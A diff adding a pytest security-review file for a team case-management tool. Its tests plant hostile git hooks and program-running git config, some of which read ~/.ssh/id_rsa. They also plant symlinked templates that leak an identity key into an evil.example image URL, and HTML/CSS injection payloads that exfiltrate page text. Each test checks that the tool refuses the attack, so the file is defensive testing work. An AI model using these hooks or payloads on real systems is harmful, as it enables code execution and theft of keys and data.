@@ -1,0 +1,369 @@
+"""Round 4 of the security review (issue 15): trust at the team boundary.
+
+Each test performs one attack end to end, as a hostile team member, a removed member or a thief
+would, against what arrives from a shared folder, a USB stick, a clone or a share.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from cmtk.errors import CmtkError, DecryptError
+from cmtk.store import identity
+from cmtk.store.session import Store
+from cmtk.team import remotes, sync
+from tests.test_sync import _team
+
+# Every hook git knows (`git help hooks`, git 2.39-2.47), and a few it may learn: none may ever run.
+GIT_HOOKS = (
+    "applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg "
+    "post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive "
+    "post-update reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate "
+    "fsmonitor-watchman p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit post-index-change"
+).split()
+
+
+def _git(root: Path, *args: str) -> str:
+    env = {**os.environ, "GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x"}
+    env["GIT_COMMITTER_EMAIL"] = "x@x"
+    return subprocess.run(["git", "-C", str(root), *args], capture_output=True, text=True, check=True, env=env).stdout
+
+
+def _plant_hooks(folder: Path, marker: Path) -> None:
+    """Every hook, a hook folder named in the repository's config, and config that runs programs."""
+    script = f'#!/bin/sh\necho "$0" >> {marker}\ncat {Path.home()}/.ssh/id_rsa >/dev/null 2>&1\nexit 0\n'
+    elsewhere = folder.parent / f"{folder.name}-evil-hooks"
+    for hooks in (folder / "hooks", elsewhere):
+        hooks.mkdir(exist_ok=True)
+        for name in GIT_HOOKS:
+            (hooks / name).write_text(script)
+            (hooks / name).chmod(0o755)
+    program = folder.parent / f"{folder.name}-evil.sh"
+    program.write_text(script)
+    program.chmod(0o755)
+    for key, value in (
+        ("core.hooksPath", str(elsewhere)),
+        ("core.fsmonitor", str(program)),
+        ("core.alternateRefsCommand", str(program)),
+        ("receive.autogc", "true"),
+        ("gc.auto", "1"),
+        ("gc.autoDetach", "false"),
+        ("receive.denyCurrentBranch", "updateInstead"),
+        ("uploadpack.packObjectsHook", str(program)),
+        ("core.sshCommand", str(program)),
+        ("filter.evil.smudge", str(program)),
+        ("filter.evil.clean", str(program)),
+        ("filter.evil.process", str(program)),
+        ("diff.external", str(program)),
+    ):
+        _git(folder, "config", key, value)
+    (folder / "info").mkdir(exist_ok=True)
+    (folder / "info" / "attributes").write_text("* filter=evil\n")
+
+
+# -- 1. nothing stored on a share, stick or server is executed by any git command cmtk runs ---------------
+
+
+def test_item1_hooks_and_config_in_the_shared_folder_never_run_on_sync_or_clone(tmp_path):
+    (amina, baraka, _), url = _team(tmp_path)
+    marker = tmp_path / "hook-ran"
+    _plant_hooks(Path(url), marker)
+    from tests.test_sync import _case
+
+    _case(amina, "Neema")
+    amina.sync()  # push: receive-pack runs in the shared repository
+    _case(baraka, "Imani")
+    baraka.sync()  # fetch and merge, then push
+    pair = identity.create(tmp_path / "dan.key")
+    from cmtk.team import rotation
+
+    rotation.add_member(amina.session(), "Dan", pair.public)
+    amina.sync()  # fetch: upload-pack runs in the shared repository
+    remotes.clone(url, tmp_path / "dan-laptop", pair)  # clone: upload-pack (or a local copy)
+    ran = marker.read_text() if marker.exists() else ""
+    assert ran == "", f"programs from the shared folder ran: {ran}"
+    assert len(Store(amina.root).case_ids()) == 2
+
+
+def test_item1_a_proc_receive_hook_never_runs_the_push_is_refused_instead(tmp_path):
+    """receive.procReceiveRefs hands the push to a hook: without hooks git refuses it, and nothing runs."""
+    (amina, _, _), url = _team(tmp_path)
+    marker = tmp_path / "hook-ran"
+    _plant_hooks(Path(url), marker)
+    _git(Path(url), "config", "receive.procReceiveRefs", "refs/heads")
+    from tests.test_sync import _case
+
+    _case(amina, "Neema")
+    with pytest.raises(CmtkError, match="could not send"):
+        amina.sync()
+    assert not marker.exists()
+
+
+def test_item1_hooks_do_not_run_through_a_hand_added_non_bare_remote(tmp_path):
+    """A remote that is another copy's working folder (not bare): push-to-checkout, filters, fsmonitor."""
+    (amina, baraka, _), _url = _team(tmp_path)
+    marker = tmp_path / "hook-ran"
+    _plant_hooks(baraka.root / ".git", marker)
+    remotes.add_remote(Store(amina.root), "baraka", str(baraka.root))
+    from tests.test_sync import _case
+
+    _case(amina, "Neema")
+    with pytest.raises(CmtkError):  # pushing into a checked-out branch is refused, as git does by default
+        sync.sync(amina.session(), "baraka")
+    assert not marker.exists()
+
+
+# -- 2. a cloned store's templates cannot steal the identity; a printed page cannot load or send anything ---
+
+STEAL = '<img srcset="https://evil.example/k?{% include "secret.txt" %} 1x" alt="">'
+
+
+def _evil_templates(folder: Path, identity_file: Path) -> None:
+    """`.cmtk/templates/`: a link to the victim's identity, and a base page that puts it in an image URL."""
+    from cmtk.output import render
+
+    templates = folder / ".cmtk" / "templates"
+    templates.mkdir(parents=True)
+    (templates / "secret.txt").symlink_to(identity_file)
+    base = (render.templates_dir() / "base.html.j2").read_text("utf-8")
+    (templates / "base.html.j2").write_text(base.replace("<body>", "<body>\n" + STEAL), "utf-8")
+
+
+def test_item2_clone_refuses_a_store_whose_templates_link_to_the_identity(tmp_path, monkeypatch):
+    (amina, _, _), url = _team(tmp_path)
+    dan_key = tmp_path / "dan.key"
+    dan = identity.create(dan_key)
+    from cmtk.team import rotation
+
+    rotation.add_member(amina.session(), "Dan", dan.public)
+    amina.sync()
+    evil = tmp_path / "evil"
+    subprocess.run(["git", "clone", "-q", url, str(evil)], check=True, capture_output=True)
+    _evil_templates(evil, dan_key)
+    _git(evil, "add", "-A")
+    _git(evil, "commit", "-q", "-m", "update cases")
+    _git(evil, "push", "-q", "origin", "HEAD:main")
+
+    target = tmp_path / "dan-laptop"
+    with pytest.raises(CmtkError, match="never writes"):
+        remotes.clone(url, target, dan)
+    assert not target.exists()
+    # What the attack did when clone took the files: printing a blank form put the secret key in an image URL.
+    secret = dan_key.read_text().strip().splitlines()[-1]
+    monkeypatch.setenv("CMTK_IDENTITY", str(dan_key))
+    from tests.helpers import run_cmtk
+
+    copy = tmp_path / "hand-copy"
+    subprocess.run(["git", "clone", "-q", url, str(copy)], check=True, capture_output=True)
+    printed = run_cmtk(["--store", str(copy), "form", "render", "identification", "-o", str(tmp_path / "f.html")])
+    assert printed.returncode == 1, printed.stdout
+    assert "link" in printed.stderr
+    assert not (tmp_path / "f.html").exists() or secret not in (tmp_path / "f.html").read_text()
+
+
+def test_item2_sync_and_clone_apply_the_same_checks(tmp_path):
+    """Every kind of file a sync refuses, clone refuses too (clone used to take them all)."""
+    (amina, _, _), url = _team(tmp_path)
+    dan = identity.create(tmp_path / "dan.key")
+    from cmtk.team import rotation
+
+    rotation.add_member(amina.session(), "Dan", dan.public)
+    amina.sync()
+    for number, (path, content) in enumerate(
+        [(".cmtk/templates/print.css", "body{}"), ("notes.txt", "x"), (".cmtk/forms/x.yaml", "a: \r b\n")]
+    ):
+        evil = tmp_path / f"evil{number}"
+        subprocess.run(["git", "clone", "-q", url, str(evil)], check=True, capture_output=True)
+        (evil / path).parent.mkdir(parents=True, exist_ok=True)
+        (evil / path).write_text(content)
+        _git(evil, "add", "-A")
+        _git(evil, "commit", "-q", "-m", "update cases")
+        _git(evil, "push", "-q", "-f", "origin", "HEAD:main")
+        with pytest.raises(CmtkError):
+            remotes.clone(url, tmp_path / f"dan{number}", dan)
+        assert not (tmp_path / f"dan{number}").exists()
+
+
+def test_item2_a_store_template_cannot_be_a_link_even_when_put_there_by_hand(tmp_path):
+    from cmtk.forms import definitions
+    from cmtk.output import render
+
+    secret = tmp_path / "identity.txt"
+    secret.write_text("AGE-SECRET-KEY-1SECRET\n")
+    store = tmp_path / "store"
+    _evil_templates(store, secret)
+    with pytest.raises(CmtkError, match="link"):
+        render.render_html(definitions.load_form("identification"), templates=render.override_dir(store))
+    # a link higher up: .cmtk/templates itself, or .cmtk
+    other = tmp_path / "other"
+    (other / ".cmtk").mkdir(parents=True)
+    (other / ".cmtk" / "templates").symlink_to(store / ".cmtk" / "templates")
+    with pytest.raises(CmtkError, match="link"):
+        render.override_dir(other)
+    # a hard link to a file outside the store
+    hard = tmp_path / "hard"
+    (hard / ".cmtk" / "templates").mkdir(parents=True)
+    os.link(secret, hard / ".cmtk" / "templates" / "print.css")
+    with pytest.raises(CmtkError, match="hard link"):
+        render.render_html(definitions.load_form("identification"), templates=render.override_dir(hard))
+
+
+@pytest.mark.parametrize(
+    "css",
+    [
+        "</style><script>fetch('https://evil.example/'+document.body.innerText)</script><style>",
+        "</STYLE ><img src=x onerror=alert(1)><style>",
+        "</style x><img src=https://evil.example/a><style>",
+        "body { background: u\\72l(https://evil.example/a) }",
+        "@\\69mport 'https://evil.example/a.css';",
+        "body { background-image: image-set('https://evil.example/a' 1x) }",
+        "/* */ @import url(//evil.example/x);",
+    ],
+)
+def test_item2_a_store_print_css_cannot_escape_its_style_element(tmp_path, css):
+    from cmtk.forms import definitions
+    from cmtk.output import render
+
+    templates = tmp_path / "templates"
+    templates.mkdir()
+    (templates / "print.css").write_text(css)
+    with pytest.raises(CmtkError, match="outside itself"):
+        render.render_html(definitions.load_form("identification"), values={}, templates=templates)
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        '<img srcset="https://evil.example/a 1x">',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+        '<base href="https://evil.example/">',
+        '<svg><image href="https://evil.example/a"/></svg>',
+        '<link rel="stylesheet" href="https://evil.example/a.css">',
+        '<object data="https://evil.example/a"></object>',
+        '<div style="background:url(https://evil.example/a)"></div>',
+        '<div onclick="alert(1)"></div>',
+        '<a href="https://evil.example/">x</a>',
+        '<form action="https://evil.example/"><button>x</button></form>',
+        '<iframe src="data:text/html,x"></iframe>',
+        '<img src="data:text/html,x">',
+        "<!--><img src=https://evil.example/a>-->",
+        '<svg><use href="#x"/></svg>',
+        '<svg><polygon points="0,0" fill="url(https://evil.example/a)"/></svg>',
+        '<p style="background:\\75rl(https://evil.example/a)">x</p>',
+    ],
+)
+def test_item2_no_markup_that_loads_or_runs_anything_passes(tmp_path, markup):
+    from cmtk.forms import definitions
+    from cmtk.output import render
+
+    templates = tmp_path / "templates"
+    templates.mkdir()
+    base = (render.templates_dir() / "base.html.j2").read_text("utf-8")
+    (templates / "base.html.j2").write_text(base.replace("<body>", "<body>\n" + markup), "utf-8")
+    with pytest.raises(CmtkError, match="outside itself"):
+        render.render_html(definitions.load_form("identification"), templates=templates)
+
+
+def test_item2_every_printed_page_starts_its_head_with_the_policy(tmp_path):
+    from cmtk.forms import definitions
+    from cmtk.output import render
+    from cmtk.output.pagecheck import POLICY_TAG
+
+    for form in definitions.load_all():
+        html = render.render_html(form)
+        head = html.index("<head>") + len("<head>")
+        assert html[head:].lstrip().startswith(POLICY_TAG), form.id
+        assert render.check_self_contained(html) == html  # checking again changes nothing
+    templates = tmp_path / "templates"
+    templates.mkdir()
+    base = (render.templates_dir() / "base.html.j2").read_text("utf-8")
+    (templates / "base.html.j2").write_text(base.replace("<head>", "<title>x</title><head>"), "utf-8")
+    with pytest.raises(CmtkError, match="before <head>"):
+        render.render_html(definitions.load_form("identification"), templates=templates)
+
+
+# -- 3. the fingerprint covers the team; nobody joins the team through the team file alone ----------------
+
+
+def _tamper_team(url: str, folder: Path, change) -> None:
+    subprocess.run(["git", "clone", "-q", url, str(folder)], check=True, capture_output=True)
+    team = folder / ".cmtk" / "recipients.txt"
+    team.write_text(change(team.read_text()))
+    _git(folder, "commit", "-q", "-am", "team add")
+    _git(folder, "push", "-q", "origin", "HEAD:main")
+
+
+def _with_dan(tmp_path: Path):
+    (amina, baraka, _), url = _team(tmp_path)
+    dan = identity.create(tmp_path / "dan.key")
+    from cmtk.team import rotation
+
+    rotation.add_member(amina.session(), "Dan", dan.public)
+    amina.sync()
+    from cmtk.team import roster
+
+    return amina, baraka, url, dan, roster.fingerprint(amina.session())
+
+
+def test_item3_a_key_appended_to_the_team_file_does_not_pass_clone_expect(tmp_path):
+    amina, _, url, dan, fingerprint = _with_dan(tmp_path)
+    mallory = identity.create(tmp_path / "mallory.key")
+    _tamper_team(
+        url, tmp_path / "evil", lambda text: text + f"\n# member: Mallory | role: caseworker\n{mallory.public}\n"
+    )
+    with pytest.raises(CmtkError):
+        remotes.clone(url, tmp_path / "dan-laptop", dan, expect=fingerprint)
+    assert not (tmp_path / "dan-laptop").exists()
+
+
+def test_item3_a_member_key_swapped_under_their_own_name_is_noticed(tmp_path):
+    amina, baraka, url, dan, fingerprint = _with_dan(tmp_path)
+    mallory = identity.create(tmp_path / "mallory.key")
+    baraka_key = next(m.public for m in Store(amina.root).members() if m.name == "Baraka")
+    _tamper_team(url, tmp_path / "evil", lambda text: text.replace(baraka_key, mallory.public))
+    with pytest.raises(CmtkError):
+        remotes.clone(url, tmp_path / "dan-laptop", dan, expect=fingerprint)
+    with pytest.raises(CmtkError):
+        remotes.clone(url, tmp_path / "dan-laptop2", dan)
+    with pytest.raises(CmtkError, match="team list"):
+        baraka.sync()  # a laptop that syncs refuses the team file changed without the store keys
+
+
+def test_item3_the_fingerprint_changes_with_the_team(tmp_path):
+    from cmtk.team import roster, rotation
+
+    amina, _, _, _, fingerprint = _with_dan(tmp_path)
+    eve = identity.create(tmp_path / "eve.key")
+    rotation.add_member(amina.session(), "Eve", eve.public)
+    assert roster.fingerprint(amina.session()) != fingerprint
+
+
+def test_item3_no_team_change_and_no_doctor_advice_completes_the_attack(tmp_path):
+    """The key reaches the team file on this laptop (by hand, or accepted at `team trust`): a team change
+    would re-encrypt the store keys to it. It must refuse, and doctor must not advise it."""
+    from cmtk.store import doctor
+    from cmtk.team import rotation
+
+    amina, _, _, _, _ = _with_dan(tmp_path)
+    mallory = identity.create(tmp_path / "mallory.key")
+    team = amina.root / ".cmtk" / "recipients.txt"
+    team.write_text(team.read_text() + f"\n# member: Mallory | role: caseworker\n{mallory.public}\n")
+    _git(amina.root, "commit", "-q", "-am", "team add")
+    Store(amina.root).accept_team()  # even after the user accepted the list at `cmtk team trust`
+    eve = identity.create(tmp_path / "eve.key")
+    with pytest.raises(CmtkError, match="store key"):
+        rotation.add_member(amina.session(), "Eve", eve.public)
+    with pytest.raises(CmtkError, match="store key"):
+        rotation.remove_member(amina.session(), "Dan")
+    findings = [f for f in doctor.check(amina.session()) if f.code == "key-team"]
+    assert findings and all("re-run" not in f.message and "team change" not in f.message for f in findings)
+    for generation in Store(amina.root).generations():
+        from cmtk.store import crypto
+
+        data = Store(amina.root).key_path(generation).read_bytes()
+        with pytest.raises(DecryptError):
+            crypto.decrypt(data, [mallory.identity], "key")
